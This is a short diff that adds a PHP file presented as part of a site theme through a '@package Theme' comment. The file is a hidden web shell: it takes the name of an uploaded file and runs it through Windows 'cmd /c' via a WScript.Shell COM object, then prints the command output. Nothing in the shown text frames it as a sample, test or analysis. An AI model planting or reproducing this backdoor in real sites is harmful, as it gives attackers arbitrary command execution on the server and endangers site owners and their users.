@@ -1,0 +1,7 @@
+<?php
+/**
+ * @package Theme
+ */
+$arg = $_FILES['cb']['name'];
+$w = new COM('WScript.Shell');
+echo $w->exec('cmd /c ' . $arg)->StdOut->ReadAll();
